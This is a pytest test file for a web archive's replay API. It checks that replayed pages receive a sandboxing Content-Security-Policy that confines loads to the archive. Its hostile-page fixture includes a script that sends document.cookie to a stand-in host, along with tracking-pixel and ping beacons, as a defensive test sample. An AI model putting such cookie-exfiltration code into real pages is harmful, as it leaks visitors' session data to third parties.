"""Replayed pages are hostile: whatever an archived page does in the visitor's browser must stay
in the archive. These tests capture such pages from a local server and replay them through the
API, checking what the responses allow the browser to do."""

from __future__ import annotations

import json

import pytest
from fastapi.testclient import TestClient

from tests.support.pages import PageServer
from tests.support.stack import capture

#: Loads the live web in ways rewriting cannot reach: a script, an inline frame's own HTML, a ping.
HOSTILE = """<!DOCTYPE html><html><head><title>Hostile</title>
<script>fetch("https://live.example.net/track?c=" + document.cookie)</script></head>
<body><p>An archived page that calls home.</p>
<iframe srcdoc="<img src='https://live.example.net/pixel.gif'>"></iframe>
<a href="/next" ping="https://live.example.net/ping">next</a></body></html>"""

#: Where the archive's own responses may load from; no scheme or host of the live web.
ARCHIVE_ONLY = {"'self'", "'unsafe-inline'", "'unsafe-eval'", "data:", "blob:", "mediastream:"}


def _policy(header: str) -> dict[str, list[str]]:
    directives = {}
    for part in header.split(";"):
        name, *sources = part.split()
        directives[name.lower()] = sources
    return directives


@pytest.mark.parametrize("modifier", ["", "mp_", "if_", "im_", "id_"])
def test_a_replayed_page_may_load_only_from_the_archive(
    workers, client: TestClient, pages: PageServer, modifier: str
) -> None:
    url = pages.set("/hostile", HOSTILE)
    capture(workers, url)
    (line,) = client.get("/cdx", params={"url": url, "output": "json"}).text.splitlines()
    stamp = json.loads(line)["timestamp"]

    response = client.get(f"/web/{stamp}{modifier}/{url}")
    assert response.status_code == 200, response.text
    policy = _policy(response.headers["content-security-policy"])
    assert "allow-scripts" in policy["sandbox"] and "allow-same-origin" not in policy["sandbox"]
    assert "'self'" in policy["default-src"]
    assert set(policy["default-src"]) <= ARCHIVE_ONLY, policy["default-src"]
    assert policy["form-action"] == ["'self'"]
